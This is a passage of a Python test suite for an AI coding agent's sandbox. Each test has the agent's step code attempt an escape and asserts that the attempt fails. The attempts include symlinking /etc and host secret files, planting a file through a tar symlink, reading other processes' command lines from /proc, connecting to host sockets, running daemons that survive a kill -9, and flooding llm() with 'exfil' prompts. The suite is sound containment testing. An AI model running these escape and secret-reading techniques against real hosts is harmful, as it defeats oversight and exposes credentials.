                ("etc_link", lambda: os.symlink("/etc", "outputs/etc")),
                ("hard_link", lambda: os.link(__SECRET_FILE__, "outputs/hard.env")),
            ):
                try:
                    action()
                    found[name] = "made"
                except OSError as exc:
                    found[name] = type(exc).__name__
            return found
    """, hostdir=str(host_secret_dir), secret_file=str(host_secret_dir / "deploy.env")))
    agent = escape_agent()

    result = await run_attack(agent, llm_server, step)

    assert result.status == "succeeded", result.error
    assert output_of(result)["hard_link"] != "made", output_of(result)
    assert [a["name"] for a in result.artifacts] == ["real.txt"], result.artifacts
    data = stored_artifact_bytes(agent, result)
    assert SECRET.encode() not in data and b"root:" not in data
    await check_unharmed(agent, result)


async def test_archive_and_restore_of_a_working_directory_stay_inside_it(
    escape_agent, llm_server, check_unharmed, host_secret_dir,
):
    """The remote-job path: a run's files travel as a tar made (and unpacked) by the worker."""
    import io
    import tarfile

    from agent_core.sandbox import StepRequest

    agent = escape_agent()
    sandbox = await agent.executor.open("archive-attack")
    try:
        result = await sandbox.run_step(StepRequest(code=code("""
            import os
            def swap():
                with open("notes.txt", "w") as handle:
                    handle.write("kept")
                os.symlink(__HOSTDIR__, "data")
                os.symlink("/etc/passwd", "passwd")
                return {}
        """, hostdir=str(host_secret_dir)), function="swap", input=None))
        assert result.ok, result.error
        data, skipped = await sandbox.archive(1 << 20)
        with tarfile.open(fileobj=io.BytesIO(data)) as tar:
            names = tar.getnames()
            contents = b"".join(tar.extractfile(m).read() for m in tar if m.isfile())
        assert "notes.txt" in names and not any(n.startswith(("data", "passwd")) for n in names), names
        assert SECRET.encode() not in contents and b"root:" not in contents
    finally:
        await sandbox.close()

    # A tar that tries to write through a link out of the working directory into the host directory.
    evil = io.BytesIO()
    with tarfile.open(fileobj=evil, mode="w") as tar:
        link = tarfile.TarInfo("outputs2")
        link.type, link.linkname = tarfile.SYMTYPE, str(host_secret_dir)
        tar.addfile(link)
        planted = tarfile.TarInfo("outputs2/planted.txt")
        planted.size = 7
        tar.addfile(planted, io.BytesIO(b"planted"))
    fresh = await agent.executor.open("restore-attack")
    try:
        try:
            await fresh.restore(evil.getvalue())
        except Exception as exc:  # refusing the whole tar is fine; writing through the link is not
            assert "restored" in str(exc), exc
    finally:
        await fresh.close()
    assert not (host_secret_dir / "planted.txt").exists()
    assert sorted(p.name for p in host_secret_dir.iterdir()) == ["deploy.env"]


async def test_many_output_files_are_capped_and_the_answer_says_so(escape_agent, llm_server, check_unharmed):
    step = subtask("many_outputs", code("""
        import os
        def many_outputs():
            for index in range(300):
                with open(f"outputs/file{index:03d}.txt", "w") as handle:
                    handle.write(f"file {index}\\n")
            return {"written": 300}
    """))
    agent = escape_agent()

    result = await run_attack(agent, llm_server, step)

    assert result.status == "succeeded", result.error
    names = [a["name"] for a in result.artifacts]
    assert len(names) <= agent.settings.artifacts_max_count + 1, names
    assert names[:3] == ["file000.txt", "file001.txt", "file002.txt"], names
    assert names[-1] == "more-outputs.zip", names
    import io
    import zipfile
    zipped = next(a for a in agent.storage.artifacts(result.run_id, with_data=True) if a["name"] == "more-outputs.zip")
    with zipfile.ZipFile(io.BytesIO(zipped["data"])) as archive:
        inside = archive.namelist()
    assert len(inside) + len(names) - 1 == 300 and "file299.txt" in inside
    assert "more-outputs.zip" in result.answer and "300" in result.answer, result.answer
    await check_unharmed(agent, result)


async def test_tens_of_thousands_of_output_files_do_not_fail_collection_silently(
    escape_agent, llm_server, check_unharmed,
):
    step = subtask("flood_outputs", code("""
        import os
        def flood_outputs():
            for index in range(20000):
                with open(f"outputs/f{index:05d}", "wb") as handle:
                    handle.write(b"x")
            return {"written": 20000}
    """))
    agent = escape_agent(step_timeout=30)

    result = await run_attack(agent, llm_server, step)

    assert result.status == "succeeded", result.error
    assert 1 <= len(result.artifacts) <= agent.settings.artifacts_max_count + 1, len(result.artifacts)
    assert "20000" in result.answer.replace(",", ""), result.answer
    assert "left out" in result.answer or "not kept" in result.answer, result.answer
    await check_unharmed(agent, result)


# ------------------------------------------------------------------------------------------------ host sockets, processes, IPC
# (issue 11, items 2, 3 and 4: Unix sockets, other processes' /proc, signals, System V / POSIX IPC, kill -9)


class UnixListener:
    """A Unix socket server on the host (abstract or a 0777 socket file) that records every connection."""

    def __init__(self, address: str):
        import socket as socketlib
        import threading

        self.address = address
        self.sock = socketlib.socket(socketlib.AF_UNIX, socketlib.SOCK_STREAM)
        self.sock.bind(address)
        if not address.startswith("\0"):
            os.chmod(address, 0o777)
        self.sock.listen(16)
        self.sock.settimeout(0.1)
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self.sock.close()


async def test_host_unix_sockets_are_unreachable(escape_agent, llm_server, check_unharmed):
    folder = Path("/tmp") / f"autocode-escape-{TOKEN}-sock"
    folder.mkdir(mode=0o755, exist_ok=True)
    os.chmod(folder, 0o755)
    abstract = UnixListener(f"\0autocode-escape-{TOKEN}")
    path = UnixListener(str(folder / "host.sock"))
    step = subtask("unix_out", code("""
        import socket
        def unix_out():
            found = {}
            for name, address in (("abstract", "\\0" + __ABSTRACT__), ("socket_file", __PATH__)):
                for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                    try:
                        with socket.socket(socket.AF_UNIX, kind) as sock:
                            sock.settimeout(2)
                            sock.connect(address)
                        found[f"{name}/{int(kind)}"] = "connected"
                    except OSError as exc:
                        found[f"{name}/{int(kind)}"] = type(exc).__name__
            return found
    """, abstract=f"autocode-escape-{TOKEN}", path=str(folder / "host.sock")))
    agent = escape_agent()
    try:
        result = await run_attack(agent, llm_server, step)
        await asyncio.sleep(0.2)
    finally:
        abstract.close()
        path.close()
        shutil.rmtree(folder, ignore_errors=True)

    assert result.status == "succeeded", result.error
    assert "connected" not in output_of(result).values(), output_of(result)
    assert abstract.connections == 0 and path.connections == 0
    await check_unharmed(agent, result)


async def test_other_processes_and_host_sockets_are_not_listed(escape_agent, llm_server, check_unharmed):
    import subprocess

    password = f"argv-password-{TOKEN}"
    bystander = subprocess.Popen(["python3", "-c", "import time; time.sleep(60)", f"--password={password}"])
    listener_name = f"autocode-escape-{TOKEN}-listing"
    abstract = UnixListener(f"\0{listener_name}")
    step = subtask("snoop_proc", code("""
        import os
        def snoop_proc():
            found = {"cmdlines": [], "errors": {}}
            try:
                pids = [name for name in os.listdir("/proc") if name.isdigit()]
            except OSError as exc:
                pids = []
                found["errors"]["listdir"] = type(exc).__name__
            for pid in [*pids, str(__BYSTANDER__), str(__SERVER__)]:
                try:
                    with open(f"/proc/{pid}/cmdline", "rb") as handle:
                        found["cmdlines"].append(handle.read().decode("utf-8", "replace"))
                except OSError as exc:
                    found["errors"][pid] = type(exc).__name__
            for table in ("tcp", "tcp6", "udp", "unix"):
                for path in (f"/proc/net/{table}", f"/proc/self/net/{table}", f"/proc/{__SERVER__}/net/{table}"):
                    try:
                        with open(path) as handle:
                            found[path] = handle.read()
                    except OSError as exc:
                        found["errors"][path] = type(exc).__name__
            with open("/proc/self/status") as handle:  # its own entries stay readable
                found["own_status"] = handle.read().startswith("Name:")
            return found
    """, bystander=bystander.pid, server=os.getpid()))
    agent = escape_agent()
    try:
        with TcpListener("127.0.0.1") as tcp:
            result = await run_attack(agent, llm_server, step)
            port_hex = f":{tcp.port:04X}"
    finally:
        bystander.kill()
        bystander.wait()
        abstract.close()

    assert result.status == "succeeded", result.error
    found = output_of(result)
    exposed = json.dumps(found)
    assert password not in exposed, "another process's command line was readable"
    assert "pytest" not in exposed and "test_escapes" not in exposed, "the server's command line was readable"
    assert listener_name not in exposed, "the host's Unix sockets were listed"
    assert port_hex not in exposed, "the host's TCP listeners were listed"
    assert found["own_status"] is True
    await check_unharmed(agent, result)


async def test_system_v_ipc_and_message_queues_are_refused(escape_agent, llm_server, check_unharmed):
    key = 0x5A000000 + int(TOKEN, 16) % 0xFFFFFF
    step = subtask("ipc", code("""
        import ctypes, ctypes.util, os
        def ipc():
            libc = ctypes.CDLL(None, use_errno=True)
            IPC_CREAT = 0o1000
            found = {}
            for name, call in (
                ("shmget", lambda: libc.shmget(ctypes.c_int(__KEY__), ctypes.c_size_t(64 << 20), IPC_CREAT | 0o666)),
                ("msgget", lambda: libc.msgget(ctypes.c_int(__KEY__ + 1), IPC_CREAT | 0o666)),
                ("semget", lambda: libc.semget(ctypes.c_int(__KEY__ + 2), 1, IPC_CREAT | 0o666)),
                ("mq_open", lambda: libc.mq_open(b"/autocode-escape-" + __TOKEN__.encode(), os.O_CREAT | os.O_RDWR,
                                                 0o666, None)),
            ):
                value = call()
                found[name] = "created" if value >= 0 else os.strerror(ctypes.get_errno())
            return found
    """, key=key, token=TOKEN))
    agent = escape_agent()

    result = await run_attack(agent, llm_server, step)

    assert result.status == "succeeded", result.error
    found = output_of(result)
    on_host = {table: [line for line in Path(f"/proc/sysvipc/{table}").read_text().splitlines()[1:]
                       if f"{key:x}" in line.split()[0:1] or str(key) in line.split()[0:1]]
               for table in ("shm", "msg", "sem")}
    mq_left = os.path.exists(f"/dev/mqueue/autocode-escape-{TOKEN}")
    if agent.executor.name == "bwrap":  # its own IPC namespace: allowed, and gone with the run
        assert on_host == {"shm": [], "msg": [], "sem": []} and not mq_left, (found, on_host)
    else:
        assert "created" not in found.values(), found
        assert on_host == {"shm": [], "msg": [], "sem": []} and not mq_left, on_host
    await check_unharmed(agent, result)


def test_ipc_objects_a_run_uid_still_owns_are_removed_when_its_sandbox_closes():
    """Where seccomp cannot block IPC (an old kernel), what the run created is still removed with the run."""
    import ctypes

    from agent_core.sandbox.pool import remove_ipc_of

    if os.geteuid() != 0:
        pytest.skip("needs root, to create IPC objects as a sandbox uid")
    uid = UID_BASE + 63
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.setresgid(uid, uid, uid)
            os.setresuid(uid, uid, uid)
            libc = ctypes.CDLL(None, use_errno=True)
            ids = [libc.shmget(0, ctypes.c_size_t(1 << 20), 0o1000 | 0o600),
                   libc.msgget(0, 0o1000 | 0o600), libc.semget(0, 1, 0o1000 | 0o600)]
            os.write(writer, json.dumps(ids).encode())
        finally:
            os._exit(0)
    os.close(writer)
    os.waitpid(pid, 0)
    ids = json.loads(os.read(reader, 4096))
    os.close(reader)
    assert all(i >= 0 for i in ids), ids

    def owned() -> list[str]:
        rows = []
        for table in ("shm", "msg", "sem"):
            for line in Path(f"/proc/sysvipc/{table}").read_text().splitlines()[1:]:
                fields = line.split()
                if str(uid) in fields[4:8]:
                    rows.append(f"{table}:{fields[1]}")
        return rows

    assert len(owned()) == 3
    remove_ipc_of(uid)
    assert owned() == []



DAEMON_SERVER = r"""
import asyncio, sys
from pathlib import Path
from agent_core.sandbox import StepRequest, Limits
from agent_core.sandbox.pool import SandboxExecutor

STEP = '''
import os, signal, subprocess, time
def daemonize():
    subprocess.Popen(["sleep", MARKER])
    first = os.fork()
    if first == 0:
        os.setsid()
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        if os.fork() == 0:
            for _ in range(5):
                if os.fork() == 0:
                    break
            time.sleep(300)
        os._exit(0)
    os.waitpid(first, 0)
    time.sleep(300)
    return {}
'''

async def main():
    backend, uid_base, root, marker = sys.argv[1], int(sys.argv[2]), Path(sys.argv[3]), sys.argv[4]
    executor = SandboxExecutor(backend=backend, warm=1, uid_base=uid_base, max_workers=4, workdir_root=root)
    await executor.start()
    sandbox = await executor.open("daemon")
    step = asyncio.create_task(sandbox.run_step(StepRequest(
        code=STEP.replace("MARKER", repr(marker)), function="daemonize", input=None, limits=Limits(timeout_s=60))))
    await asyncio.sleep(1.5)
    print("ready", flush=True)
    await step

asyncio.run(main())
"""


async def test_nothing_of_the_sandbox_survives_a_kill_of_the_server(tmp_path):
    """`kill -9` of the process that owns the executor: its workers, their steps and every daemon the steps
    started (setsid, SIGHUP ignored, double fork) are gone within seconds, on both backends."""
    import signal
    import subprocess
    import sys

    from tests.escape_helpers import live_sandbox_processes

    uid_base = UID_BASE + 32
    runs_root = Path(tempfile.mkdtemp(prefix=f"autocode-escape-{TOKEN}-kill-"))
    os.chmod(runs_root, 0o711)
    marker = f"301.{int(TOKEN, 16) % 1000000}"
    script = tmp_path / "daemon_server.py"
    script.write_text(DAEMON_SERVER)
    server = subprocess.Popen([sys.executable, str(script), BACKEND_ENV, str(uid_base), str(runs_root), marker],
                              cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        line = await asyncio.wait_for(asyncio.to_thread(server.stdout.readline), 30)
        assert line.strip() == "ready", server.stderr.read() if server.poll() is not None else line
        before = live_sandbox_processes(uid_base, 4)
        assert len(before) >= 5, before  # the step, its sleep and the daemons are running
        os.kill(server.pid, signal.SIGKILL)
        server.wait(5)
        left = await wait_no_sandbox_processes(uid_base, 4, within_s=5)
        assert left == [], f"processes of the sandbox outlived the server: {left}"
        assert processes_with(f"sleep {marker}") == []
        assert processes_with("autocode worker.py") == [] or all(
            p.ppid != server.pid for p in processes_with("autocode worker.py"))
    finally:
        if server.poll() is None:
            server.kill()
            server.wait()
        for process in live_sandbox_processes(uid_base, 4):
            try:
                os.kill(process.pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        shutil.rmtree(runs_root, ignore_errors=True)


# ------------------------------------------------------------------------------------------------ step results and logs
# (issue 11, items 8 and 10: log size caps, untrusted result shapes)


class HostDiskWatch:
    """Samples, while a run goes on, what it could be costing the host's disk outside its capped working directory.

    Two measures, each of which the other's blind spot needs: the space used on the file system of the host's temp
    dir (tempfile.gettempdir(); the test points it at a tmpfs of its own where it can mount one, so nothing else on
    the machine moves the number), which sees named files there; and the allocated size of every regular file held
    open by this (server) process or any process below it (workers, steps), which sees unlinked temp files on any
    file system. Peak growth over the run is what counts, not the end state: a log file is gone once the step ends.
    """

    def __init__(self, temp_dir: str):
        self.temp_dir = temp_dir
        self.peak_temp = self.peak_open = 0
        self.peak_rss_kb = 0
        self.samples = 0
        self._stop = threading.Event()
        self._base_temp = shutil.disk_usage(temp_dir).used
        self._base_open = self._open_file_bytes()
        self._base_rss_kb = self._rss_kb()
        self._thread = threading.Thread(target=self._watch, daemon=True)

    def __enter__(self) -> "HostDiskWatch":
        self._thread.start()
        return self

    def __exit__(self, *exc: Any) -> None:
        self._stop.set()
        self._thread.join()

    def _watch(self) -> None:
        while not self._stop.wait(0.02):
            self.peak_temp = max(self.peak_temp, shutil.disk_usage(self.temp_dir).used - self._base_temp)
            self.peak_open = max(self.peak_open, self._open_file_bytes() - self._base_open)
            self.peak_rss_kb = max(self.peak_rss_kb, self._rss_kb() - self._base_rss_kb)
            self.samples += 1

    @staticmethod
    def _rss_kb() -> int:
        for line in Path("/proc/self/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
        return 0

    @staticmethod
    def _open_file_bytes() -> int:
        parents: dict[int, int] = {}
        for entry in os.listdir("/proc"):
            if entry.isdigit():
                try:
                    with open(f"/proc/{entry}/stat") as handle:
                        parents[int(entry)] = int(handle.read().rsplit(")", 1)[1].split()[1])
                except (OSError, IndexError, ValueError):
                    pass
        ours, changed = {os.getpid()}, True
        while changed:
            found = {pid for pid, ppid in parents.items() if ppid in ours} - ours
            ours |= found
            changed = bool(found)
        total, seen = 0, set()
        for pid in ours:
            try:
                fds = os.listdir(f"/proc/{pid}/fd")
            except OSError:
                continue
            for fd in fds:
                try:
                    info = os.stat(f"/proc/{pid}/fd/{fd}")
                except OSError:
                    continue
                if stat.S_ISREG(info.st_mode) and (info.st_dev, info.st_ino) not in seen:
                    seen.add((info.st_dev, info.st_ino))
                    total += info.st_blocks * 512
        return total


@pytest.fixture
def private_temp_dir():
    """The host temp dir, made a 64 MB tmpfs of this test's own when it can mount one (root with CAP_SYS_ADMIN),
    so its usage moves only with what this run writes; otherwise the shared one (then only the open-files measure
    of HostDiskWatch is free of other processes' noise). Yields (path, whether it is private)."""
    path = tempfile.mkdtemp(prefix=f"autocode-escape-tmp-{TOKEN}-")
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64m,mode=1777", "tmpfs", path],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).returncode == 0
    before = tempfile.tempdir
    if mounted:
        tempfile.tempdir = path
    try:
        yield (path if mounted else tempfile.gettempdir()), mounted
    finally:
        tempfile.tempdir = before
        if mounted:
            subprocess.run(["umount", "-l", path], check=False)
        os.rmdir(path)


async def test_step_logs_never_reach_the_host_disk(escape_agent, llm_server, check_unharmed, private_temp_dir):
    # 300 MB to stdout and to stderr, 50 MB more from a child, and a grandchild that never stops writing to stderr
    # (it outlives the step's return): were the logs host files, that is half a gigabyte of the host's disk. The
    # server reads a flooding log at a bounded rate, so the step may well reach its timeout first.
    step = subtask("flood_logs", code("""
        import os
        def flood_logs():
            chunk = b"f" * (1 << 20)
            problems = []
            def pour(fd, mib):
                for _ in range(mib):
                    try:
                        os.write(fd, chunk)
                    except OSError as exc:
                        problems.append(f"fd {fd}: {type(exc).__name__}: {exc}")
                        return
            os.write(1, b"HEAD-OF-STDOUT\\n")
            os.write(2, b"HEAD-OF-STDERR\\n")
            child = os.fork()
            if child == 0:
                try:
                    pour(1, 50)
                    pour(2, 50)
                finally:
                    os._exit(0)
            os.waitpid(child, 0)
            if os.fork() == 0:
                try:
                    os.setsid()
                    while True:
                        os.write(2, chunk)
                finally:
                    os._exit(0)
            pour(1, 300)
            pour(2, 300)
            os.write(1, b"\\nTAIL-OF-STDOUT\\n")
            return {"problems": problems}
    """))
    agent = escape_agent(step_timeout=5, step_max_log_kb=64)
    temp_dir, private = private_temp_dir

    started = time.monotonic()
    with HostDiskWatch(temp_dir) as watch:
        result = await run_attack(agent, llm_server, step, ok=False)
    elapsed = time.monotonic() - started

    mib = 1 << 20
    assert watch.samples > 3
    assert watch.peak_open < 4 * mib, f"files open by the server or its sandbox grew by {watch.peak_open} bytes"
    if private:
        assert watch.peak_temp < 4 * mib, f"the host's temp dir grew by {watch.peak_temp} bytes"
    assert not (result.error or "").startswith("Internal error"), result.error
    completed = result.steps[0].ok
    assert completed or (result.steps[0].error or "").startswith("TimeoutError"), result.steps[0].error
    if completed:
        assert output_of(result) == {"problems": []}
    stored = agent.storage.steps(result.run_id)[0]
    cap = 64 * 1024
    for name, head in (("stdout", "HEAD-OF-STDOUT\n"), ("stderr", "HEAD-OF-STDERR\n")):
        text = stored[name]
        match = re.search(r"\n\[\.\.\. (\d+) bytes omitted \.\.\.\]\n", text)
        assert match, f"{name} has no omission marker: {text[:200]!r}"
        assert text.startswith(head)
        kept = len(text) - len(match.group())
        assert cap - 8 <= kept <= cap, (name, kept)
        assert int(match.group(1)) >= 16 * mib, (name, match.group(1))  # it flooded, far past the cap
    if completed:
        assert stored["stdout"].endswith("\nTAIL-OF-STDOUT\n")
    else:
        assert stored["stdout"].endswith("f" * 100)
    assert elapsed < 15
    await check_unharmed(agent, result)


DEEP = "<DEEP>"  # 100,000 nested lists, built inside the step (the step's source stays small)


def forged(line: str) -> str:
    """A step that writes `line` straight to its result channel (the socket fd it holds), bypassing child.py."""
    return code("""
        import os, socket, stat
        def forge():
            line = __LINE__.replace("<DEEP>", "[" * 100_000 + "]" * 100_000)
            for name in sorted(os.listdir("/proc/self/fd"), key=int):
                try:
                    is_socket = stat.S_ISSOCK(os.fstat(int(name)).st_mode)
                except OSError:
                    continue
                if is_socket:
                    channel = socket.socket(fileno=os.dup(int(name)))
                    channel.sendall(line.encode() + b"\\n")
                    channel.close()
                    break
            os._exit(0)  # nothing after the forged message: no result of child.py's
    """, line=line)


def returned(body: str) -> str:
    """A step that returns what `body` builds, through child.py as ordinary code does."""
    return "import sys\n\ndef forge():\n" + textwrap.indent(textwrap.dedent(body).strip(), "    ") + "\n"


FORGED_CALL = '{"op": "call", "id": 1, "name": %s, "args": %s, "kwargs": %s}'
HELPER_PROMPT = f"forged-helper-prompt-{TOKEN}"
UNTRUSTED_RESULTS = {
    "deep_result_on_the_socket": (
        forged('{"op": "result", "output": {"a": ' + DEEP + '}}'),
        "ProtocolError: the step's result is nested deeper than 100 levels"),
    "nan_on_the_socket": (
        forged('{"op": "result", "output": {"a": NaN}}'),
        "ProtocolError: the step's result contains NaN or Infinity, which JSON does not allow"),
    "infinity_on_the_socket": (
        forged('{"op": "result", "output": {"a": [1, {"b": -Infinity}]}}'),
        "ProtocolError: the step's result contains NaN or Infinity, which JSON does not allow"),
    "list_output_on_the_socket": (
        forged('{"op": "result", "output": [1, 2, 3]}'),
        "ProtocolError: the step's output is a list, not a dict"),
    "error_report_not_text": (
        forged('{"op": "error", "error": {"a": 1}, "traceback": null}'),
        "ProtocolError: the step's error report is a dict, not a string"),
    "call_args_a_dict": (
        forged(FORGED_CALL % ('"llm"', json.dumps({"prompt": HELPER_PROMPT}), "{}")),
        "ProtocolError: a tool call's args is a dict, not a list"),
    "call_kwargs_a_list": (
        forged(FORGED_CALL % ('"llm"', json.dumps([HELPER_PROMPT]), '[["system", "x"]]')),
        "ProtocolError: a tool call's kwargs is a list, not a dict"),
    "call_name_not_text": (
        forged(FORGED_CALL % ('["llm"]', json.dumps([HELPER_PROMPT]), "{}")),
        "ProtocolError: a tool call's name is a list, not a string"),
    "deep_call": (
        forged(FORGED_CALL % ('"llm"', f'["{HELPER_PROMPT}", {DEEP}]', "{}")),
        "ProtocolError: a tool call is nested deeper than 100 levels"),
    "nan_in_a_call": (
        forged(FORGED_CALL % ('"llm"', f'["{HELPER_PROMPT}", NaN]', "{}")),
        "ProtocolError: a tool call contains NaN or Infinity, which JSON does not allow"),
    "deep_return": (
        returned("""
            value = []
            for _ in range(500):
                value = [value]
            return {"deep": value}
        """),
        "ProtocolError: the step's result is nested deeper than 100 levels"),
    "deeper_return_than_the_server_can_parse": (
        returned("""
            sys.setrecursionlimit(100_000)  # child.py's encoder then goes as deep as the step likes
            value = []
            for _ in range(20_000):
                value = [value]
            return {"deep": value}
        """),
        "ProtocolError: the step's result is nested deeper than 100 levels"),
    "nan_return": (
        returned("""return {"ratio": float("nan")}"""),
        "TypeError: forge returned a dict that is not JSON: it contains NaN or Infinity, which JSON does not "
        "allow"),
    "lone_surrogate_return": (
        returned("""return {"text": "broken \\ud800 text"}"""),
        "ProtocolError: the step's result contains a lone surrogate, which is not valid text"),
}


@pytest.mark.parametrize("case", list(UNTRUSTED_RESULTS))
async def test_untrusted_result_is_a_failed_step_with_a_clear_error(case, escape_agent, llm_server, check_unharmed):
    source, expected = UNTRUSTED_RESULTS[case]
    agent = escape_agent()

    result = await run_attack(agent, llm_server, subtask("forge", source), ok=False)

    assert not (result.error or "").startswith("Internal error"), result.error
    assert result.status == "failed"
    assert [s.status for s in result.steps] == ["error"]
    assert result.steps[0].error == expected
    assert result.steps[0].output is None
    json.loads(json.dumps(result.to_json(), allow_nan=False))  # what `autocode run --json` prints
    helper_calls = [r for r in llm_server.chat_requests()
                    if any(m.get("content") == HELPER_PROMPT for m in r.get("messages", []))]
    assert helper_calls == [], "a malformed tool call reached llm()"
    await check_unharmed(agent, result)


def test_run_json_stays_json_when_a_step_forges_nan(llm_server, tmp_path):
    """`autocode run --json` (a real CLI process) prints JSON that a strict parser accepts."""
    runs_root = Path(tempfile.mkdtemp(prefix=f"autocode-escape-{TOKEN}-"))
    os.chmod(runs_root, 0o711)  # traversable by the run uids (see `escape_agent`)
    llm_server.reply_json(plan(subtask("forge", forged('{"op": "result", "output": {"a": NaN, "b": Infinity}}')),
                               thought="attack"))
    llm_server.reply_json(verdict("", ok=False, thoughts="attack finished"))
    environ = {k: v for k, v in os.environ.items() if not k.startswith(("OPENAI_", "AUTOCODE_"))}
    environ.update(
        AUTOCODE_DB=str(tmp_path / "cli.db"), AUTOCODE_LLM_MAX_RETRIES="0", OPENAI_BASE_URL=llm_server.base_url,
        OPENAI_API_KEY="sk-cli", AUTOCODE_MODEL="fake-model", AUTOCODE_SANDBOX_BACKEND=BACKEND_ENV,
        AUTOCODE_SANDBOX_WARM="0", AUTOCODE_SANDBOX_UID_BASE=str(UID_BASE), AUTOCODE_WORKDIR_ROOT=str(runs_root),
        AUTOCODE_STEP_TIMEOUT="10",
    )
    try:
        proc = subprocess.run([sys.executable, "-P", "-m", "agent_core.cli", "run", "attack the host", "--json"],
                              cwd=tmp_path, env=environ, capture_output=True, text=True, timeout=90)
    finally:
        shutil.rmtree(runs_root, ignore_errors=True)

    def strict(constant: str) -> Any:
        raise AssertionError(f"`autocode run --json` printed {constant}, which is not JSON")

    assert proc.stdout.strip(), proc.stderr
    out = json.loads(proc.stdout, parse_constant=strict)
    assert proc.returncode == 1, proc.stderr
    assert out["status"] == "failed" and not (out["error"] or "").startswith("Internal error"), out["error"]
    assert [s["status"] for s in out["steps"]] == ["error"]
    assert out["steps"][0]["error"] == (
        "ProtocolError: the step's result contains NaN or Infinity, which JSON does not allow")


# ------------------------------------------------------------------------------------------------ llm() helper budget
# (issue 11, item 6: a step's llm() calls are capped and audited)


HELPER_CAP = 20  # the documented default of AUTOCODE_LLM_CALLS_PER_STEP
AUDIT_CHARS = 2000  # how much of each helper prompt and reply is stored


def helper_requests(llm_server) -> list[dict[str, Any]]:
    """The chat requests llm() sent (the planner and the evaluator ask for a JSON response format; it does not)."""
    return [body for body in llm_server.chat_requests() if "response_format" not in body]


def answer_helper_calls(llm_server, reply: str) -> None:
    """llm() calls get `reply` and the evaluator a satisfactory verdict, however many calls arrive."""
    llm_server.responder(lambda body: {"json": verdict("done", thoughts="attack finished")}
                         if "response_format" in body else {"content": reply})


async def autocode_show(agent, run_id: str, *flags: str) -> str:
    """`autocode show RUN_ID` on the agent's database, as an operator would run it."""
    import sys

    env = {k: v for k, v in os.environ.items() if not k.startswith(("OPENAI_", "AUTOCODE_"))}
    proc = await asyncio.create_subprocess_exec(
        sys.executable, "-P", "-m", "agent_core.cli", "--db", str(agent.storage.path), "show", run_id, *flags,
        env=env, cwd=str(REPO), stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
    stdout, stderr = await asyncio.wait_for(proc.communicate(), 60)
    assert proc.returncode == 0, stderr.decode()
    return stdout.decode()


async def test_llm_helper_flood_is_refused_after_the_per_step_cap_and_audited(
    escape_agent, llm_server, check_unharmed,
):
    flood = subtask("flood", code("""
        def flood():
            answered, refused, first_refusal = 0, 0, None
            for i in range(1000):
                try:
                    llm(f"exfil {i:04d} " + "s" * 3000)
                    answered += 1
                except Exception as exc:
                    refused += 1
                    first_refusal = first_refusal or f"{type(exc).__name__}: {exc}"
            return {"answered": answered, "refused": refused, "first_refusal": first_refusal}
    """))
    reply = "reply " + "r" * 2500
    agent = escape_agent()
    llm_server.reply_json(plan(flood, thought="attack"))
    answer_helper_calls(llm_server, reply)

    result = await agent.run("attack the host")

    assert result.status == "succeeded", result.error
    out = output_of(result)
    assert (out["answered"], out["refused"]) == (HELPER_CAP, 1000 - HELPER_CAP), out
    assert f"llm(): this step already made {HELPER_CAP} calls (AUTOCODE_LLM_CALLS_PER_STEP)" in out["first_refusal"]
    sent = helper_requests(llm_server)
    assert len(sent) == HELPER_CAP, "the LLM server saw more helper requests than the cap"
    used = result.usage["prompt_tokens"] + result.usage["completion_tokens"]
    assert used < 200_000, f"the run used {used} tokens, over the default AUTOCODE_MAX_TOKENS_PER_RUN"

    rows = [call for call in agent.storage.llm_calls(result.run_id) if call["purpose"] == "helper"]
    assert len(rows) == HELPER_CAP
    for number, row in enumerate(rows):
        prompt = f"exfil {number:04d} " + "s" * 3000
        assert row["prompt_chars"] == len(prompt) and row["response_chars"] == len(reply)
        assert prompt.startswith(row["prompt_text"].rstrip(" …")) and len(row["prompt_text"]) <= AUDIT_CHARS + 2
        assert reply.startswith(row["reply_text"].rstrip(" …")) and len(row["reply_text"]) <= AUDIT_CHARS + 2
        assert len(row["prompt_text"]) >= AUDIT_CHARS and len(row["reply_text"]) >= AUDIT_CHARS
    shown = json.loads(await autocode_show(agent, result.run_id, "--json"))
    audited = [(c["prompt_text"], c["prompt_chars"], c["reply_text"], c["response_chars"])
               for c in shown["llm_calls"] if c["purpose"] == "helper"]
    assert audited == [(r["prompt_text"], r["prompt_chars"], r["reply_text"], r["response_chars"]) for r in rows]
    text = await autocode_show(agent, result.run_id)
    section = text[text.index("llm() calls"):]
    assert "exfil 0000 sss" in section and "exfil 0019 sss" in section and "exfil 0020" not in section
    assert f"{len(f'exfil 0000 ') + 3000} chars" in section
    await check_unharmed(agent, result)


async def test_llm_helper_prompt_over_the_size_cap_never_leaves(escape_agent, llm_server, check_unharmed):
    bulk = subtask("bulk", code("""
        def bulk():
            blob = "d" * 200_000  # under the step channel's own cap on a call's arguments (256 KB)
            outcome = {}
            for name, prompt, system in (("huge", blob, ""), ("huge_system", "summarize", blob),
                                         ("small", "summarize: ok", "")):
                try:
                    outcome[name] = llm(prompt, system=system)
                except Exception as exc:
                    outcome[name] = f"{type(exc).__name__}: {exc}"
            return outcome
    """))
    agent = escape_agent()
    llm_server.reply_json(plan(bulk, thought="attack"))
    answer_helper_calls(llm_server, "ok")

    result = await agent.run("attack the host")

    assert result.status == "succeeded", result.error
    out = output_of(result)
    for name in ("huge", "huge_system"):
        assert "over the limit of 20000 (AUTOCODE_LLM_PROMPT_MAX_CHARS)" in out[name], out[name][:300]
    assert out["small"] == "ok"
    sent = helper_requests(llm_server)
    assert [m["content"] for m in sent[0]["messages"] if m["role"] == "user"] == ["summarize: ok"]
    assert len(sent) == 1
    assert max(len(json.dumps(body)) for body in llm_server.chat_requests()) < 100_000
    await check_unharmed(agent, result)


